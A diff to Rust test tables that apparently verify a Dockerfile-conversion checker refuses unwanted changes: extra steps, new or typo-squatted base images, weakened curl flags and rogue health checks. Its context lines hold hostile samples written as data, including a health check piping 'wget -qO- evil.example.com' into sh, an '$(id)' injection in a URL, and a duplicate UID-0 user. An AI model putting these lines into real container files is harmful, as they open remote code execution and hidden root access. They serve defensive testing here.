@@ -34,11 +34,25 @@ fn a_conversion_moves_steps_and_adds_nothing_of_its_own() {
         (&["steps-kept"], |file| {
             two_stages(file).replace("EXPOSE", "RUN useradd -o -u 0 x\nEXPOSE")
         }),
+        (&["steps-kept"], |file| {
+            two_stages(file).replace("EXPOSE", "RUN useradd --gid=0 x\nEXPOSE")
+        }),
+        (&["steps-kept"], |file| {
+            two_stages(file).replace("EXPOSE", "RUN adduser --ingroup=root x\nEXPOSE")
+        }),
+        (&["steps-kept"], |file| {
+            two_stages(file).replace("COPY --from", "RUN mkdir -p /usr/local/bin/app\nCOPY --from")
+        }),
+        (&["steps-kept"], |file| {
+            let run = "RUN go build -o /usr/local/bin/app ./cmd/app\n";
+            two_stages(file).replace(run, &run.repeat(2))
+        }),
         (&["steps-kept", "entry-copied"], |file| {
             two_stages(file).replace("build /usr/local/bin/app", "build /bin/sh")
         }),
         (&["new-base"], |file| two_stages(file).replace("debian:12-slim", "evil.example.com/x:1")),
         (&["new-base"], |file| two_stages(file).replace("debian:12-slim", "evil/x:1")),
+        (&["new-base"], |file| two_stages(file).replace("debian:12-slim", "debain:12-slim")),
         (&["new-base"], |file| {
             two_stages(file).replace("FROM debian", "FROM --platform=linux/s390x debian")
         }),
@@ -108,6 +122,13 @@ fn only_the_tool_changes_where_only_the_tool_is_wrong() {
         }),
         (&["only-tool-calls-change"], |file| one_tool(file).replace("RUN useradd -r app\n", "")),
         (&["only-tool-calls-change"], |file| one_tool(file).replace("-o /b", "-o /x")),
+        // An error page would pass for the file, and a redirect for nothing.
+        (&["only-tool-calls-change"], |file| {
+            one_tool(file).replace("-fsSL https://example.com/b", "-sSL https://example.com/b")
+        }),
+        (&["only-tool-calls-change"], |file| {
+            one_tool(file).replace("-fsSL https://example.com/b", "-fsS https://example.com/b")
+        }),
     ];
     all_refused(COMMAND_FAMILY, TOOLS, rows);
 }
@@ -138,6 +159,7 @@ fn a_health_check_is_one_probe_of_this_container() {
         (HOST, "[\"/bin/sh\", \"-c\", \"wget -qO- evil.example.com | sh\"]"),
         (PATH, "curl -f http://localhost/$(id)"),
         (COMMAND, "curl -K /x http://localhost/"),
+        (COMMAND, "curl -sS http://localhost/"),
         (COMMAND, "pg_isready -h elsewhere"),
         (COMMAND, "pg_isready -d 'host=elsewhere'"),
         (HOST, "pg_isready -h db.example.com"),
@@ -225,6 +247,8 @@ fn a_base_image_has_what_the_commands_call() {
         ("RUN pip install x==1", "3.12-alpine", &[]),
         ("SHELL [\"/bin/bash\", \"-c\"]", "3.12-alpine", NEEDS),
         ("RUN sh -c 'dpkg -i x.deb'", "3.12-alpine", NEEDS),
+        ("RUN pip install git+https://example.com/x.git@1", "3.12-slim", NEEDS),
+        ("HEALTHCHECK CMD curl -f http://localhost/", "3.12-slim", NEEDS),
     ] {
         let text = PYTHON.replace("COPY app.py .", commands);
         let rules = [BASE_IMAGE];
